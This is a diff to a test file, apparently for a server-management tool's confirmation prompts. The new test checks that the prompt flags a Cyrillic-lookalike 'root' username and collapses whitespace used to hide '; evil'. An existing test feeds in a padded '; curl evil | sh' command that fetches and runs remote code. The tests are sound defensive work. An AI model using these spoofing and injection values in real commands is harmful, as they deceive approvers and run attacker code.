@@ -172,6 +172,17 @@ describe('A command with arguments from outside', () => {
       assert.match(prompts.confirmations[0]?.detail ?? '', /"name": "a\\nAccount: testing"/);
     });
 
+    it('marks letters that look like others, and what hides the rest of a value', async () => {
+      await run('serverManagement.createCronJob', jobs, {
+        ...rootJob,
+        username: 'r\u{43e}ot',
+        command: `true${' '.repeat(300)}; evil`,
+      });
+      const { detail } = prompts.confirmations[0] ?? assert.fail('nothing is asked');
+      assert.ok(detail.includes('"username": "(mixed alphabets) r\u{43e}ot"'), detail);
+      assert.ok(detail.includes('"command": "true(300 spaces); evil"'), detail);
+    });
+
     it('refuses values that are too long to show in full', async () => {
       const given = { ...rootJob, command: `true ${' '.repeat(3_000)}; curl evil | sh` };
       await assert.rejects(run('serverManagement.createCronJob', jobs, given), /too long/);
